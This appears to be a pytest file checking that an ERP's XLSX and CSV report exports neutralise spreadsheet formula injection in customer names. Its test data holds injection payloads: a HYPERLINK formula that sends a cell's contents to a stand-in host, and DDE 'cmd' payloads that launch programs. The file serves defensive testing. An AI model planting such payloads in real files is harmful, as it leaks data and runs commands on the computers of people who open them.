"""Report cells carry data, never formulas: text that a spreadsheet would run stays text.

A customer name comes from an imported CSV, so it is whatever a member typed. Each character
that makes a spreadsheet read a cell as a formula (OWASP's list: `=`, `+`, `-`, `@`, tab, CR)
is tried at the start of a customer name, in both report formats.
"""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from erp.features.reports.formatting import CsvReport, CurrencyTotals, ReportRow, XlsxReport
from erp.features.reports.schemas import Grouping

HOSTILE_NAMES = [
    '=HYPERLINK("https://x.example/?"&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _xlsx_bytes(name: str) -> bytes:
    report = XlsxReport(Grouping.customer)
    row = ReportRow(name, "EUR", 1, Decimal("-2.50"))
    report.add_rows([row])
    totals = CurrencyTotals()
    totals.add(row)
    return b"".join(report.finish(totals))


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_xlsx_text_is_a_string_cell_never_a_formula(name):
    data = _xlsx_bytes(name)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member), member
    sheet = load_workbook(io.BytesIO(data))["Sales"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # The text itself, unchanged (XML reads a bare carriage return as a line feed).
    assert cell.value == name.replace("\r", "\n")
    assert sheet["D2"].value == Decimal("-2.50") or sheet["D2"].value == -2.5  # amounts stay numbers


def test_xlsx_text_that_looks_like_an_error_code_stays_text():
    sheet = load_workbook(io.BytesIO(_xlsx_bytes("#N/A")))["Sales"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "#N/A"


@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_text_starting_a_formula_is_escaped_with_a_single_quote(name):
    report = CsvReport(Grouping.customer)
    text = report.add_rows([ReportRow(name, "EUR", 1, Decimal("-2.50"))]).decode()
    [header, row] = list(csv.reader(io.StringIO(text, newline="")))
    assert header == ["customer", "currency", "orders", "amount"]
    assert row == ["'" + name, "EUR", "1", "-2.50"]  # amounts are numbers: left alone


@pytest.mark.parametrize("name", ["Acme", "O'Brien", "'quoted", "a=b", " =1", "100% Acme"])
def test_csv_ordinary_text_is_unchanged(name):
    report = CsvReport(Grouping.customer)
    text = report.add_rows([ReportRow(name, "EUR", 1, Decimal("1"))]).decode()
    assert list(csv.reader(io.StringIO(text, newline="")))[1][0] == name
